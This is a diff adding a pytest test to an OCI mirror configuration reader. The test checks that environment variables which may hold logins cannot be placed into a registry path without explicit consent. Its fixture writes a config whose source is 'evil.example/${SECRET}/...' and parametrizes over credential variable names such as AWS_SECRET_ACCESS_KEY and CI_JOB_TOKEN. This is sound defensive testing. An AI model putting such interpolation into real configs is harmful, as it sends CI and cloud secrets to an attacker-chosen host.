@@ -9,10 +9,11 @@ from typing import Any
 import pytest
 
 from oci.cancel import CancelToken
+from oci.documents.variables import CONSENT
 from oci.errors import InvalidInput
 from oci.mirror.config import MirrorsConfig
 from oci.mirror.reader import make_config, read_config
-from oci.mirror.run import CONSENT, opened
+from oci.mirror.run import opened
 from tests.support.relocating import anonymous
 
 HOST = "registry.corp.example"
@@ -121,3 +122,23 @@ def test_nothing_but_a_file_of_the_machine_says_that_it_is_one() -> None:
     with pytest.raises(InvalidInput, match="from_file: unknown key"):
         make_config({"from_file": True, "mirrors": []})
     assert "from_file" not in config().with_(from_file=True).to_dict()
+
+
+@pytest.mark.parametrize(
+    "name", ["IMGPKG_PASSWORD", "CI_JOB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DOCKER_AUTH_CONFIG", "TRANSSHIP_X", "db_pwd"]
+)
+def test_a_variable_that_may_hold_a_login_needs_consent(tmp_path: Path, name: str) -> None:
+    """Whoever writes the file chooses the registry, which would read it in the path that it is asked for."""
+    path = tmp_path / "mirrors.yaml"
+    path.write_text(
+        f"version: 1\nenvironment: [{name}, CI_COMMIT_AUTHOR, KEYBOARD]\nmirrors:\n"
+        f"  - name: web\n    source: {{repository: 'evil.example/${{{name}}}/${{CI_COMMIT_AUTHOR}}-${{KEYBOARD}}'}}\n"
+        "    destinations: [{repository: registry.corp.example/web}]\n"
+    )
+    machine = {name: "hunter2", "CI_COMMIT_AUTHOR": "bob", "KEYBOARD": "us"}
+
+    with pytest.raises(InvalidInput, match=f"{name} may hold a login: .*{CONSENT}=environment") as caught:
+        read_config(str(path), machine)
+    assert "hunter2" not in f"{caught.value}"
+    agreed = read_config(str(path), {**machine, CONSENT: "paths, environment"})
+    assert str(agreed.mirrors[0].source) == "evil.example/hunter2/bob-us"
